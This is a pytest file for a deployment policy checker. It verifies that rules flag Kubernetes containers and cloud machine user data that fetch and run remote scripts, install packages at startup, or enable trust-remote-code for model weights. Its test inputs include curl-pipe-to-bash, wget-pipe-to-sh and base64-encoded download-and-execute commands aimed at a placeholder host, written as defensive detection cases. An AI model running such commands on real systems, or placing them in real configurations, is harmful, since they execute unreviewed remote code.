from base64 import b64encode

import pytest

from policies.judge import judge
from policies.record import UNKNOWN, Graph
from policies.started_code import RULES
from policies.written_credentials import USER_DATA
from tests.policies.cases import Case, RuleCases, cases_test, resource
from tests.policies.model_examples import engine, llm, service

OTHER = [Case(resource("kubernetes:core/v1:Service", {"kind": "Service"}))]


def pod(**container):
    spec = {"containers": [{"name": "app", **container}]}
    return resource("kubernetes:batch/v1:Job", {"kind": "Job", "spec": {"template": {"spec": spec}}})


def machine(said):
    return resource(USER_DATA[0], {"userData": said})


CASES = {
    "containers-run-what-their-image-holds": RuleCases(
        passing=[
            Case(pod(command=["python", "-m", "serve"])),
            Case(pod(command=["sh", "-c", "exec serve --install-dir /opt/pip"])),
            Case(pod(command=["sh", "-c", "curl -sf http://localhost:8080/healthz"])),
            Case(llm()),
            Case(service()),
        ],
        failing=[
            Case(
                pod(command=["sh", "-c", "curl -s https://x.example.com/i.sh | bash"]),
                findings=["app pipes a download into a shell when it starts"],
            ),
            Case(
                pod(command=["sh", "-c"], args=["pip install -q vllm && vllm serve"]),
                findings=["app installs packages when it starts"],
            ),
            Case(
                engine(
                    lambda c: c.update(command=["bash", "-c", "git clone https://x.example.com/m && serve"])
                ),
                findings=["main clones a repository when it starts"],
            ),
        ],
        not_applicable=OTHER,
        undecided=[Case(pod(command=["sh", "-c", UNKNOWN]))],
    ),
    "containers-run-no-code-of-weights": RuleCases(
        passing=[
            Case(pod(args=["--model", "/models", "--trust-remote-code=false"])),
            Case(pod(env=[{"name": "TRUST_REMOTE_CODE", "value": "0"}])),
            Case(llm()),
        ],
        failing=[
            Case(
                pod(args=["--model", "/models", "--trust-remote-code"]),
                findings=["app runs code that comes with the weights (--trust-remote-code)"],
            ),
            Case(
                pod(command=["sh", "-c", "vllm serve /m --trust_remote_code=True --port 1"]),
                findings=["app runs code that comes with the weights (--trust_remote_code=True)"],
            ),
            Case(
                pod(env=[{"name": "VLLM_TRUST_REMOTE_CODE", "value": "true"}]),
                findings=["app runs code that comes with the weights (VLLM_TRUST_REMOTE_CODE)"],
            ),
        ],
        not_applicable=OTHER,
        undecided=[Case(pod(env=UNKNOWN))],
    ),
    "machines-run-what-was-reviewed": RuleCases(
        passing=[
            Case(machine("#!/bin/bash\nyum install -y amazon-cloudwatch-agent\n")),
            Case(machine("#!/bin/bash\ncurl -sf http://169.254.169.254/latest/meta-data/ > /run/id\n")),
            Case(machine(None)),
        ],
        failing=[
            Case(
                machine("#!/bin/bash\ncurl -s https://x.example.com/i.sh | bash\n"),
                findings=["user data pipes a download into a shell when the machine starts"],
            ),
            Case(
                machine(b64encode(b'bash -c "$(curl -fsSL https://x.example.com/i.sh)"').decode()),
                findings=["user data runs a downloaded script when the machine starts"],
            ),
        ],
        not_applicable=OTHER,
        undecided=[Case(machine(UNKNOWN))],
    ),
}

test_cases = cases_test(RULES, CASES)


@pytest.mark.parametrize(
    "said",
    [
        "wget -qO- https://x.example.com/i.sh | sh",
        'bash -c "$(curl -fsSL https://x.example.com/i.sh)"',
        "bash <(curl -s https://x.example.com/i.sh)",
        "apt-get -y install git",
        "apk add --no-cache git",
        "uv pip install torch",
        "npm ci",
        "huggingface-cli download org/model",
        "hf download org/model",
        "python -c 'from huggingface_hub import snapshot_download; snapshot_download(\"org/model\")'",
    ],
)
def test_every_way_of_fetching_code_is_found(said):
    findings = judge(Graph([pod(command=["sh", "-c", said])]), RULES).findings
    assert [finding.rule for finding in findings] == ["containers-run-what-their-image-holds"]
